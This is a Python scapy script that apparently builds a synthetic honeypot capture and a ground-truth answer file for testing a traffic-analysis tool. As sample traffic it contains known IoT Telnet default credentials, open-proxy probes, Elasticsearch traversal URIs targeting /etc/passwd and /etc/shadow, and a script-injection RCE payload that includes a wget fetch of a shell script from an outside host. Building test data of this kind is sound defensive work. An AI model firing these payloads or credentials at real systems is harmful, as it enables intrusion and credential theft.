#!/usr/bin/python3
"""Generates a capture spanning several days for the observation records and the report, and
what it must produce.

  scripts/gen_observations.py OUT.pcap TRUTH.json [--days 3] [--seed 7]

Accesses (SYN without ACK, UDP datagrams) to two sensor addresses on the mission's ports and a
few others, a different number per port and day (so the ranking and the trends are known),
from a pool of sources; some connections carry a Telnet login, a proxy probe, an Elasticsearch
traversal or script, and some frames are no access (SYN-ACK, RST, data). TRUTH.json holds, from
the generator's own bookkeeping (not from pktsieve):
  {"days": [...], "sensor_addresses": 2, "accesses": {"YYYY-MM-DD": {"tcp/23": n, ...}},
   "sources": {"tcp/23": n}, "telnet_credentials": {"user\\tpass": n}, "proxy_targets": {...},
   "traversal_targets": {...}, "rce_commands": {...}}
Times are UTC, in order; output is deterministic for a seed.
"""
import argparse
import collections
import json
import logging
import random
import sys
import time

logging.getLogger("scapy.runtime").setLevel(logging.ERROR)
from scapy.all import IP, TCP, UDP, Ether, Raw, wrpcap

DAY0 = 1432080000  # 2015-05-20T00:00:00Z
SENSORS = ["198.51.100.20", "198.51.100.21"]
MAC_C, MAC_S = "02:00:00:00:00:01", "02:00:00:00:00:02"

# Accesses per day on each port, days 1-3; later days repeat them, growing 10 % each 3 days.
DAILY = {
    ("tcp", 23): [120, 180, 150], ("tcp", 2323): [30, 35, 28], ("tcp", 8888): [60, 90, 75],
    ("tcp", 37564): [40, 45, 80], ("tcp", 8090): [50, 20, 35], ("tcp", 8080): [70, 65, 60],
    ("tcp", 8118): [25, 22, 30], ("tcp", 8123): [18, 25, 20], ("tcp", 3128): [33, 31, 29],
    ("tcp", 9200): [45, 55, 90], ("tcp", 22): [15, 12, 17], ("tcp", 445): [9, 11, 6],
    ("udp", 53): [20, 24, 22], ("udp", 123): [5, 8, 4], ("udp", 1900): [12, 3, 7],
}
CREDENTIALS = [("root", "xc3511"), ("root", "vizxv"), ("admin", "admin"), ("root", "888888"),
               ("support", "support"), ("root", "default")]
PROXY = ["www.example.com:443", "mail.example.net:25", "azenv.example:80", "198.51.100.7:25"]
TRAVERSAL = [("/_plugin/head/../../../../etc/passwd", "/etc/passwd"),
             ("/_plugin/head/%2e%2e/%2e%2e/%2e%2e/etc/shadow", "/etc/shadow"),
             ("/_plugin/kopf/../../../../../etc/hosts", "/etc/hosts")]
COMMANDS = ["id", "uname -a", "wget http://203.0.113.99/x.sh -O /tmp/x.sh"]


def http(line, headers=(), body=b""):
    h = "".join(f"{k}: {v}\r\n" for k, v in headers)
    if body:
        h += f"Content-Length: {len(body)}\r\n"
    return f"{line}\r\n{h}\r\n".encode() + body


def payload_for(rng, proto, port, truth):
    """What a connection carries after its handshake (None: a bare SYN, a scan)."""
    if proto != "tcp" or rng.random() < 0.5:
        return None
    if port in (23, 2323):
        user, password = rng.choice(CREDENTIALS)
        truth["telnet_credentials"][f"{user}\t{password}"] += 1
        return [f"{user}\r\n".encode(), f"{password}\r\n".encode()]
    if port in (8080, 8090, 8888, 8118, 8123, 37564, 3128):
        target = rng.choice(PROXY)
        if rng.random() < 0.5:
            truth["proxy_targets"][target] += 1
            return [http(f"CONNECT {target} HTTP/1.1", [("Host", target)])]
        host = target.split(":")[0]
        truth["proxy_targets"][f"{host}:80"] += 1
        return [http(f"GET http://{host}/ HTTP/1.1", [("Host", host)])]
    if port == 9200:
        if rng.random() < 0.5:
            uri, file = rng.choice(TRAVERSAL)
            truth["traversal_targets"][file] += 1
            return [http(f"GET {uri} HTTP/1.1", [("Host", "sensor:9200")])]
        cmd = rng.choice(COMMANDS)
        truth["rce_commands"][cmd] += 1
        body = ('{"size":1,"script_fields":{"x":{"script":"java.lang.Math.class.forName('
                '\\"java.lang.Runtime\\").getRuntime().exec(\\"' + cmd + '\\").getText()"}}}')
        return [http("POST /_search?pretty HTTP/1.1", [("Host", "sensor:9200")], body.encode())]
    return None


def connection(t, src, dst, sport, proto, port, data):
    """Frames of one access at time t: a datagram, a bare SYN (answered by RST), or a session."""
    def at(k, pkt):
        pkt.time = t + 0.001 * k
        return pkt
    c2s = lambda: Ether(src=MAC_C, dst=MAC_S) / IP(src=src, dst=dst)
    s2c = lambda: Ether(src=MAC_S, dst=MAC_C) / IP(src=dst, dst=src)
    if proto == "udp":
        return [at(0, c2s() / UDP(sport=sport, dport=port) / Raw(b"\x00" * 12))]
    out = [at(0, c2s() / TCP(sport=sport, dport=port, flags="S", seq=999))]
    if data is None:
        out.append(at(1, s2c() / TCP(sport=port, dport=sport, flags="RA", seq=0, ack=1000)))
        return out
    out.append(at(1, s2c() / TCP(sport=port, dport=sport, flags="SA", seq=4999, ack=1000)))
    out.append(at(2, c2s() / TCP(sport=sport, dport=port, flags="A", seq=1000, ack=5000)))
    seq = 1000
    for k, d in enumerate(data):
        out.append(at(3 + k, c2s() / TCP(sport=sport, dport=port, flags="PA", seq=seq, ack=5000) / Raw(d)))
        seq += len(d)
    n = 3 + len(data)
    out.append(at(n, c2s() / TCP(sport=sport, dport=port, flags="FA", seq=seq, ack=5000)))
    out.append(at(n + 1, s2c() / TCP(sport=port, dport=sport, flags="FA", seq=5000, ack=seq + 1)))
    out.append(at(n + 2, c2s() / TCP(sport=sport, dport=port, flags="A", seq=seq + 1, ack=5001)))
    return out


def generate(days, seed):
    rng = random.Random(seed)
    truth = {"days": [], "sensor_addresses": len(SENSORS), "accesses": {},
             "telnet_credentials": collections.Counter(), "proxy_targets": collections.Counter(),
             "traversal_targets": collections.Counter(), "rce_commands": collections.Counter()}
    sources = collections.defaultdict(set)
    pool = [f"203.0.113.{i}" for i in range(1, 120)] + [f"192.0.2.{i}" for i in range(1, 60)]
    conns = []
    for d in range(days):
        day = time.strftime("%Y-%m-%d", time.gmtime(DAY0 + 86400 * d))
        truth["days"].append(day)
        per_port = truth["accesses"][day] = {}
        for (proto, port), series in DAILY.items():
            n = round(series[d % len(series)] * (1 + 0.1 * (d // len(series))))
            per_port[f"{proto}/{port}"] = n
            for _ in range(n):
                # Whole seconds inside the day, away from its last second (sessions take ms).
                t = DAY0 + 86400 * d + rng.randrange(0, 86399)
                src = rng.choice(pool[:40] if port in (23, 2323) else pool)
                sources[f"{proto}/{port}"].add(src)
                conns.append((t, rng.random(), src, rng.choice(SENSORS), proto, port))
    conns.sort()
    frames = []
    sport = 20000
    for t, _, src, dst, proto, port in conns:
        sport = sport + 1 if sport < 65000 else 20000
        frames += connection(t, src, dst, sport, proto, port, payload_for(rng, proto, port, truth))
    frames.sort(key=lambda p: float(p.time))
    truth["sources"] = {k: len(v) for k, v in sources.items()}
    truth["frames"] = len(frames)
    for k in ("telnet_credentials", "proxy_targets", "traversal_targets", "rce_commands"):
        truth[k] = dict(truth[k])
    return frames, truth


def main():
    ap = argparse.ArgumentParser(description=__doc__,
                                 formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("pcap")
    ap.add_argument("truth")
    ap.add_argument("--days", type=int, default=3)
    ap.add_argument("--seed", type=int, default=7)
    a = ap.parse_args()
    frames, truth = generate(a.days, a.seed)
    wrpcap(a.pcap, frames)
    with open(a.truth, "w") as f:
        json.dump(truth, f, indent=1, sort_keys=True)
    print(f"{a.pcap}: {len(frames)} frames over {a.days} days", file=sys.stderr)


if __name__ == "__main__":
    main()
